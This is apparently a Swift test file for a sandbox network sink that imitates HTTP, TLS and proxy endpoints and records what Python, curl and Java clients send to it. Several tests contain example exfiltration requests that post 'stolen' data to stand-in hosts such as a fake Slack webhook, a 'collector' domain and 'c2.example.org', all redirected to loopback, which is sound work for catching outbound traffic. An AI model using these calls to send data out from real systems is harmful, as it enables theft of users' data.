import Sandbox
import TestSupport
import Testing

@Suite("The sink and clients of HTTP")
struct HTTPClientTests {
  @Test("answers Python's http.client on one connection: lengths, chunks, JSON and forms")
  func httpClient() throws {
    let loopback = try LoopbackSink()
    let port = try loopback.open()
    let script = """
      import http.client, sys, gzip
      c = http.client.HTTPConnection('127.0.0.1', int(sys.argv[1]), timeout=10)
      c.request('GET', '/a?b=c'); r = c.getresponse(); print(r.status, r.read().decode())
      c.request('POST', '/form', body=b'k=v', headers={'Content-Type': 'application/x-www-form-urlencoded'})
      r = c.getresponse(); print(r.status, len(r.read()))
      c.request('PUT', '/up', body=iter([b'first-', b'second']), encode_chunked=True, headers={'Transfer-Encoding': 'chunked'})
      r = c.getresponse(); print(r.status, len(r.read()))
      c.request('POST', '/z', body=gzip.compress(b'secret' * 50), headers={'Content-Encoding': 'gzip'})
      r = c.getresponse(); print(r.status, len(r.read()))
      c.request('HEAD', '/'); r = c.getresponse(); print(r.status, r.read())
      c.request('POST', '/collect', body=b'x'); r = c.getresponse(); print(r.status, r.read())
      """
    let client = Client.python(script, [String(port)])
    #expect(
      client.output == """
        200 {"ok":true,"status":"success"}
        200 30
        200 30
        200 30
        200 b''
        204 b''

        """)
    let exchanges = loopback.sink.stop()
    try #require(exchanges.count == 6)
    #expect(Set(exchanges.map(\.connection)).count == 1)
    #expect(exchanges.map(\.requestLine).first == "GET /a?b=c HTTP/1.1")
    #expect(exchanges[1].payload.kept == bytes("k=v"))
    #expect(exchanges[2].payload.kept == bytes("first-second"))
    #expect(exchanges[3].decoded == bytes(String(repeating: "secret", count: 50)))
    #expect(exchanges[3].payload.kept.starts(with: [0x1F, 0x8B]))
    #expect(exchanges.allSatisfy { $0.cuts.isEmpty && $0.transport == .tcp && $0.asked.port == port })
    #expect(exchanges.allSatisfy { $0.source.hostText == "127.0.0.1" && $0.source.port != 0 })
    #expect(exchanges.allSatisfy { $0.began <= $0.ended })
  }

  @Test("is trusted by urllib over TLS, by name and by address, with the strictest checks of certificates")
  func urllib() throws {
    let loopback = try LoopbackSink()
    let port = try loopback.open(standsFor: 443)
    let script = """
      import socket, ssl, sys, urllib.request
      real = socket.getaddrinfo
      socket.getaddrinfo = lambda host, *a, **k: real('127.0.0.1', *a, **k)
      port, ca = sys.argv[1], sys.argv[2]
      strict = ssl.create_default_context(cafile=ca)
      strict.verify_flags |= ssl.VERIFY_X509_STRICT | getattr(ssl, 'VERIFY_X509_PARTIAL_CHAIN', 0)
      for host in ('models.collector.example.org', 'a_b.example.org', '127.0.0.1'):
          r = urllib.request.Request(f'https://{host}:{port}/up', data=b'stolen')
          print(urllib.request.urlopen(r, context=strict, timeout=10).status)
      """
    let client = Client.python(script, [String(port), loopback.certificate])
    #expect(client.output == "200\n200\n200\n")
    let exchanges = loopback.sink.stop()
    #expect(exchanges.map(\.payload.kept) == [bytes("stolen"), bytes("stolen"), bytes("stolen")])
    #expect(exchanges.map(\.names.server) == ["models.collector.example.org", "a_b.example.org", nil])
    #expect(exchanges.allSatisfy { $0.layers == [.tls] && $0.tls?.version == "TLSv1.3" && $0.asked.port == 443 })
  }

  @Test("is trusted by requests through a bundle, and holds what a client without it said: the name and the alert")
  func requests() throws {
    guard let python = Interpreters.requests else { try Test.cancel("no interpreter here has requests") }
    let loopback = try LoopbackSink()
    let port = try loopback.open(standsFor: 443)
    let script = """
      import requests, socket, sys
      real = socket.getaddrinfo
      socket.getaddrinfo = lambda host, *a, **k: real('127.0.0.1', *a, **k)
      url = f'https://hooks.slack.com:{sys.argv[1]}/services/T0/B0/x'
      r = requests.post(url, json={'text': 'stolen'}, timeout=10); print(r.status_code, r.text)
      session = requests.Session(); session.trust_env = False
      try: session.post(url, timeout=10)
      except requests.exceptions.SSLError as e: print('refused')
      print(session.post(url, data=b'x', timeout=10, verify=False).status_code)
      """
    let client = Client.python(
      script, [String(port)], ["REQUESTS_CA_BUNDLE": loopback.certificate, "PYTHONWARNINGS": "ignore"],
      interpreter: python)
    #expect(client.output == "200 ok\nrefused\n200\n")
    let exchanges = loopback.sink.stop()
    try #require(exchanges.count == 3)
    #expect(exchanges[0].payload.kept == bytes(#"{"text": "stolen"}"#))
    #expect(exchanges[1].application == .tls)
    #expect(exchanges[1].tls?.alert == 48)
    #expect(exchanges[1].names.server == "hooks.slack.com")
    #expect(exchanges[2].payload.kept == bytes("x"))
  }

  @Test("speaks HTTP/2 with httpx")
  func httpx() throws {
    guard let python = Interpreters.httpx else { try Test.cancel("no interpreter here has httpx and h2") }
    let loopback = try LoopbackSink()
    let port = try loopback.open()
    let script = """
      import httpx, ssl, sys
      c = httpx.Client(http2=True, verify=ssl.create_default_context(cafile=sys.argv[2]), timeout=10)
      for i in range(3):
          r = c.post(f'https://127.0.0.1:{sys.argv[1]}/up/{i}', content=b'x' * 200000 * i)
          print(r.http_version, r.status_code, r.json()['ok'])
      """
    let client = Client.python(script, [String(port), loopback.certificate], interpreter: python)
    #expect(client.output == "HTTP/2 200 True\nHTTP/2 200 True\nHTTP/2 200 True\n")
    let exchanges = loopback.sink.stop()
    #expect(exchanges.map(\.application) == [.http2, .http2, .http2])
    #expect(exchanges.map(\.payload.total) == [0, 200_000, 400_000])
    #expect(Set(exchanges.map(\.connection)).count == 1)
  }

  @Test(
    "answers curl in every version of HTTP",
    arguments: ["--http1.0", "--http1.1", "--http2", "--http2-prior-knowledge"])
  func curl(version: String) throws {
    guard Client.has("curl --version | grep -q HTTP2") else { try Test.cancel("no curl with HTTP/2") }
    let loopback = try LoopbackSink()
    let port = try loopback.open()
    let address = "127.0.0.1:\(port)"
    let plain = Client.run("curl -sS -m 10 \(version) -w ' %{http_code} %{http_version}' -d stolen http://\(address)/p")
    let secure = Client.run(
      "curl -sS -m 10 \(version) --cacert \(loopback.certificate) -w ' %{http_code} %{http_version}' -d stolen"
        + " --resolve c2.example.org:\(port):127.0.0.1 https://c2.example.org:\(port)/p")
    let ok = #"{"ok":true,"status":"success"} 200 "#
    // The library leaves an upgrade of a plain connection to the server, which need not take it.
    let number = version == "--http1.0" || version == "--http1.1" || version == "--http2" ? "1.1" : "2"
    #expect(plain.output == ok + number)
    #expect(secure.output == ok + (version.hasPrefix("--http2") ? "2" : "1.1"))
    let exchanges = loopback.sink.stop()
    #expect(exchanges.map(\.payload.kept) == [bytes("stolen"), bytes("stolen")])
    #expect(exchanges.allSatisfy { $0.answer?.status == 200 && $0.cuts.isEmpty })
    #expect(exchanges.last?.names.server == "c2.example.org")
  }

  @Test("takes large uploads of curl with Expect: 100-continue, and keeps what the budget allows")
  func expectContinue() throws {
    guard Client.has("curl --version") else { try Test.cancel("no curl") }
    var configuration = SinkConfiguration()
    configuration.limits.keptPerExchange = 1_000_000
    let loopback = try LoopbackSink(configuration)
    let port = try loopback.open()
    let client = Client.run(
      "head -c 3000000 /dev/zero | curl -sS -m 10 -H 'Expect: 100-continue' --data-binary @- http://127.0.0.1:\(port)/p"
    )
    #expect(client.output == #"{"ok":true,"status":"success"}"#)
    let exchange = try #require(loopback.sink.stop().first)
    #expect(exchange.payload.total == 3_000_000)
    #expect(exchange.payload.kept.count == 1_000_000)
    #expect(exchange.cuts == [.payload])
    let expected = Client.run("head -c 3000000 /dev/zero | sha256sum").output.prefix(64)
    #expect(hex(exchange.payload.sha256) == expected)
  }

  @Test("plays a proxy: absolute targets, and tunnels that it looks into")
  func proxy() throws {
    guard Client.has("curl --version") else { try Test.cancel("no curl") }
    let loopback = try LoopbackSink()
    let port = try loopback.open()
    let proxy = "-x http://127.0.0.1:\(port) -sS -m 10 --noproxy ''"
    let plain = Client.run("curl \(proxy) http://plain.example.org/a -d one")
    let secure = Client.run("curl \(proxy) --cacert \(loopback.certificate) https://secret.example.org/b -d two")
    let nested = Client.run(
      "curl -sS -m 10 --noproxy '' -x https://127.0.0.1:\(port) --proxy-cacert \(loopback.certificate)"
        + " --cacert \(loopback.certificate) https://secret.example.org/b -d three")
    for client in [plain, secure, nested] { #expect(client.output == #"{"ok":true,"status":"success"}"#) }
    let exchanges = loopback.sink.stop()
    try #require(exchanges.count == 5)
    #expect(exchanges[4].layers == [.tls, .tunnel, .tls] && exchanges[4].payload.kept == bytes("three"))
    #expect(exchanges[0].names.host == "plain.example.org")
    #expect(exchanges[1].requestLine == "CONNECT secret.example.org:443 HTTP/1.1")
    #expect(exchanges[2].layers == [.tunnel, .tls])
    #expect(exchanges[2].names.tunnel == "secret.example.org:443")
    #expect(exchanges[2].payload.kept == bytes("two"))
  }

  @Test("talks with Java's client")
  func java() throws {
    guard Client.has("java -version && keytool -help") else { try Test.cancel("no Java") }
    let loopback = try LoopbackSink()
    let port = try loopback.open()
    let files = TemporaryDirectory()
    files.write(
      "Talk.java",
      """
      import java.net.URI; import java.net.http.*;
      public class Talk { public static void main(String[] a) throws Exception {
        var r = HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(a[0]))
          .POST(HttpRequest.BodyPublishers.ofString("stolen")).build(), HttpResponse.BodyHandlers.ofString());
        System.out.println(r.statusCode() + " " + r.version()); } }
      """)
    let client = Client.run(
      "cd \(files.path) && keytool -importcert -noprompt -alias a -file \(loopback.certificate) -keystore k -storepass"
        + " changeit >made 2>&1 || cat made; java -Djavax.net.ssl.trustStore=k -Djavax.net.ssl.trustStorePassword=changeit Talk.java https://127.0.0.1:\(port)/j"
    )
    #expect(client.output == "200 HTTP_2\n")
    #expect(loopback.sink.stop().first?.payload.kept == bytes("stolen"))
  }

  private func hex(_ bytes: [UInt8]) -> String {
    bytes.map { ($0 < 16 ? "0" : "") + String($0, radix: 16) }.joined()
  }

  @Test("serves connections over IPv6")
  func ipv6() throws {
    let loopback = try LoopbackSink()
    guard let port = try? loopback.open(ipv6: true) else { try Test.cancel("no IPv6 here") }
    let script =
      "import sys, urllib.request as u; print(u.urlopen('http://[::1]:' + sys.argv[1] + '/', timeout=9).status)"
    #expect(Client.python(script, [String(port)]).output == "200\n")
    #expect(loopback.sink.stop().first?.asked.hostText == "::1")
  }
}
